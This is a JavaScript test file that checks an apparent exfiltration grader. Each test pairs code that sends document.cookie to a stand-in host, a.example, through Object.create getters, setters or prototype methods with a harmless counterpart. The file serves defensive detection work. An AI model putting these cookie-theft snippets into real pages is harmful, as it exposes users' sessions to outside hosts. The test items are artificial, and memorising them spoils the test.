import { expect, it } from 'vitest';
import { graded } from '../../../testing/graded.ts';

const gradeOf = (content: string): Promise<string> =>
  graded({
    content: `const send = (x) => fetch('https://a.example/', { method: 'POST', body: x }); const K = document.cookie; ${content}`,
  });

it.each([
  [
    'const o = Object.create(null, { all: { get() { return K; } }, none: { value: 1 } }); send(o.all);',
    'const o = Object.create(null, { all: { get() { return K; } }, none: { value: 1 } }); send(o.none);',
  ],
  [
    'const o = Object.create({}, { all: { set(x) { send(x); } } }); o.all = K;',
    'const o = Object.create({}, { all: { set(x) { send(x); } } }); o.all = 1; o.none = K;',
  ],
  [
    'function A() {} A.prototype.put = (x) => send(x); function B() {} B.prototype = Object.create(A.prototype, { constructor: { value: B } }); new B().put(K);',
    'function A() {} A.prototype.put = (x) => send(1); function B() {} B.prototype = Object.create(A.prototype, { constructor: { value: B } }); new B().put(K);',
  ],
])('what an object is made with is written to it: %s', async (harmful, harmless) => {
  expect(await gradeOf(harmful)).toBe('F');
  expect(await gradeOf(harmless)).not.toBe('F');
});
